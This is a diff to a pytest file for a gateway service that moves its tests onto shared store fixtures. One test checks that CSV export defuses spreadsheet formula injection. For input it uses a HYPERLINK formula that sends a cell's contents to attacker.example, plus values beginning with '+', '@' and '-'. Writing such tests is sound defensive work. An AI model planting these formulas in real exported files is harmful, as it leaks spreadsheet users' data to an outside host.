@@ -10,7 +10,7 @@ import pytest
 
 from gateway.auth import PERMISSIONS
 from gateway.server import Gateway
-from gateway.store import Batch, Store
+from gateway.store import Batch
 from tests.conftest import REPO
 from tests.gateway.conftest import ROLES, login, make_config
 from tests.gateway.records import overridden, record
@@ -32,10 +32,10 @@ RECORDS = [
 
 
 @pytest.fixture(scope="module")
-def api(tmp_path_factory):
+def api(tmp_path_factory, module_store):
     """A gateway without MQTT over a store holding RECORDS; C1's second inspection overridden."""
     tmp = tmp_path_factory.mktemp("api")
-    store = Store(tmp / "gateway.db")
+    store = module_store
     store.write(Batch(inspections=RECORDS))
     gw = Gateway(make_config(tmp), store=store, mqtt=False).start()
     yield gw
@@ -171,11 +171,11 @@ def test_csv_export_of_the_filtered_set_with_impact_columns(erin):
     )
 
 
-def test_csv_export_quotes_text_a_spreadsheet_would_run_and_keeps_numbers(tmp_path):
+def test_csv_export_quotes_text_a_spreadsheet_would_run_and_keeps_numbers(tmp_path, make_store):
     formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"click for details")'
     rec = record(station="st-x", core_id="X1", family="+SUM(A1:A9)", part_number="@cmd")
     rec = overridden(rec, 3, user="-eve", reason=formula, impact=(0.0, -0.4))
-    store = Store(tmp_path / "gateway.db")
+    store = make_store()
     store.write(Batch(inspections=[rec]))
     with Gateway(make_config(tmp_path), store=store, mqtt=False) as gw:
         resp = login(gw.url, "erin").get("/history.csv")
